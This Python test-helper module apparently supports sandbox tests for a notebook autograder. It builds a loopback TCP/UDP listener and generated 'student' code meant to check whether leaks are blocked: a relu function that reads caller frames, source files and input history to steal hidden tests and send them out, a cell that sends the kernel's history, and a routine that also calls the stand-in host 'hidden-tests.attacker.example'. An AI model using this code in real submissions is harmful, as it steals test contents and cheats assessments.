"""Submission folders, network listeners, and the student code that reaches for them, which several tests build."""
import socket
import textwrap
import threading

import nbformat


def write_submission(folder, files):
    """Write a submission's files (notebooks, text, bytes) into folder."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        elif isinstance(content, str):
            path.write_text(content)
        else:
            nbformat.write(content, path)


class Listener:
    """A TCP and UDP listener on 127.0.0.1 that counts the connections, datagrams and bytes it receives."""

    def __init__(self):
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(64)
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.connections, self.datagrams, self.received = 0, 0, b""
        self.closed = False
        threading.Thread(target=self._accept, daemon=True).start()
        threading.Thread(target=self._receive_udp, daemon=True).start()

    def _accept(self):
        while not self.closed:
            try:
                connection, _ = self.tcp.accept()
            except OSError:
                return
            self.connections += 1
            connection.settimeout(2)
            try:
                while chunk := connection.recv(65536):
                    self.received += chunk
            except OSError:
                pass
            connection.close()

    def _receive_udp(self):
        while not self.closed:
            try:
                data, _ = self.udp.recvfrom(65536)
            except OSError:
                return
            self.datagrams += 1
            self.received += data

    def close(self):
        self.closed = True
        self.tcp.close()
        self.udp.close()


def reach_code(port):
    """Python that defines ``_reach(data)``: every way a submission could send data to the listener on port (TCP
    to loopback and to resolved host names, a UDP datagram); returns how many connections got through. It never
    raises and never takes long."""
    return textwrap.dedent(f"""
        def _reach(data=b"hello from a submission"):
            import socket as _socket
            data = data if isinstance(data, bytes) else str(data).encode(errors="replace")
            _addresses = [("127.0.0.1", {port}), ("localhost", {port})]
            for _name in ["localhost", "example.com", "pypi.org", "hidden-tests.attacker.example"]:
                try:
                    for _info in _socket.getaddrinfo(_name, {port}, type=_socket.SOCK_STREAM)[:2]:
                        _addresses.append(_info[4][:2])
                except OSError:
                    pass
            _sent = 0
            for _address in _addresses:
                try:
                    with _socket.create_connection(_address, timeout=0.5) as _s:
                        _s.sendall(data)
                        _sent += 1
                except OSError:
                    pass
            try:
                _u = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
                _u.sendto(b"udp " + data[:500], ("127.0.0.1", {port}))
            except OSError:
                pass
            return _sent
    """)


def exfiltrating_relu(port):
    """A correct relu whose first three calls (the test cells') send the hidden tests they can find in their
    callers' frames, their source files and In to the listener on port."""
    return reach_code(port) + textwrap.dedent("""
        import inspect as _inspect, linecache as _linecache, sys as _sys
        _calls = []
        def relu(z):
            _calls.append(1)
            if len(_calls) <= 3:  # the first calls come from the test cells; training calls relu thousands of times
                _found = []
                try:
                    for _frame in _inspect.stack()[1:6]:
                        _found.append("".join(_linecache.getlines(_frame.filename)))
                        _found.append("\\n".join(_frame.frame.f_globals.get("In", []))[:20000])
                    _f = _sys._getframe(1)
                    while _f is not None:
                        _found.append(str(_f.f_code.co_filename) + repr(list(_f.f_locals))[:2000])
                        _f = _f.f_back
                except Exception:
                    pass
                _reach("\\n".join(_found))
            return np.maximum(0, z)
    """)


def history_sender(port):
    """A cell that sends the kernel's input history (In: every cell run so far, tests included) to the listener."""
    return reach_code(port) + textwrap.dedent("""
        try:
            print("sent", _reach("\\n".join(In)))
        except NameError:
            pass
    """)
